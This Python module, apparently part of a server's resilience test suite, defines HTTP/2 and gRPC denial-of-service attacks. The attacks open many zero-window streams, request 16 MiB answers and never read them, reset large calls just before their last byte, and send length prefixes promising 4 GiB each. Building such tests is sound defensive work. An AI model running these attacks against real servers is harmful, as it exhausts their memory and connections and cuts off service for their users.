"""Who has the server keep what nobody will take, or takes."""

import socket

from attackers.payloads import MIB, STATIC, STREAM, begin_stream, broadcast, chunk, encode_call
from attackers.silence import rest
from http2 import END_HEADERS, HEALTH_WATCH, Connection, Kind, frame, grpc_message
from plain_requests import build_static_request

_STREAMS = 120


def zero_windows(address: str) -> None:
    """Answers of 16 MiB to requests of some bytes, of which not one is taken."""
    request = grpc_message(broadcast(16 * MIB - 64))
    with Connection(address, initial_window=0) as connection:
        for _ in range(_STREAMS):
            connection.send_data(connection.open(STATIC), request, end=True, seconds=5)
        rest(connection)


def zero_window_streams(address: str) -> None:
    """Streams whose tensor comes at full speed, and whose output is not taken."""
    with Connection(address, initial_window=0) as connection:
        streams = [connection.open(STREAM) for _ in range(_STREAMS)]
        for stream in streams:
            connection.send_data(stream, begin_stream(1 << 30), seconds=5)
        for part in range(1024):
            for stream in streams:
                connection.send_data(stream, chunk(part * MIB, bytes(MIB)), seconds=0.05)
            if connection.closed:
                return


def unread_answers(address: str) -> None:
    """Answers of 16 MiB on a connection that has a window, and does not read its socket."""
    request = frame(Kind.DATA, 1, 0, grpc_message(broadcast(16 * MIB - 64)))
    with Connection(address, initial_window=(1 << 31) - 1, reads=False) as connection:
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.send(frame(Kind.WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))
        for _ in range(_STREAMS):
            stream = connection.open(STATIC)
            connection.send(request[:5] + stream.to_bytes(4, "big") + request[9:])
        rest(connection)


def unread_watches(address: str) -> None:
    """Watches on a connection that does not read."""
    with Connection(address, initial_window=0, reads=False) as connection:
        for _ in range(_STREAMS):
            stream = connection.open(HEALTH_WATCH)
            connection.send(frame(Kind.DATA, 1, stream, grpc_message(b"")))
        rest(connection)


def sent_ahead(address: str) -> None:
    """Calls that send as much as the first windows allow, before the server has asked for a byte."""
    with Connection(address) as connection:
        connection.await_(lambda: connection._first_window > 65535, seconds=1)
        part = grpc_message(bytes(16 * MIB))[: connection._first_window]
        for _ in range(_STREAMS):
            connection.send_data(connection.open(STATIC), part, seconds=0.2)
        rest(connection)


def large_calls(address: str) -> None:
    """Legal calls of 16 MiB, four at once, as many as are answered."""
    request = grpc_message(build_static_request(16 * MIB - 64))
    with Connection(address) as connection:
        while not connection.closed:
            streams = [connection.open(STATIC) for _ in range(4)]
            for stream in streams:
                connection.send_data(stream, request, end=True)
            for stream in streams:
                connection.await_end(stream)
                connection.bodies.pop(stream, None)


def broken_large_calls(address: str) -> None:
    """Calls of 16 MiB that are reset just before their last byte."""
    request = grpc_message(build_static_request(16 * MIB - 64))[:-1]
    with Connection(address) as connection:
        while not connection.closed:
            stream = connection.open(STATIC)
            connection.send_data(stream, request, seconds=2)
            connection.send(frame(Kind.RST_STREAM, 0, stream, b"\0\0\0\x08"))


def promised_bytes(address: str) -> None:
    """Prefixes that promise 4 GiB each."""
    prefix = b"\x00\xff\xff\xff\xff"
    block = encode_call(STATIC)
    with Connection(address) as connection:
        for stream in range(1, 1 << 31, 2):
            if connection.closed:
                return
            connection.send(frame(Kind.HEADERS, END_HEADERS, stream, block) + frame(Kind.DATA, 0, stream, prefix))
            connection.await_end(stream, seconds=1)
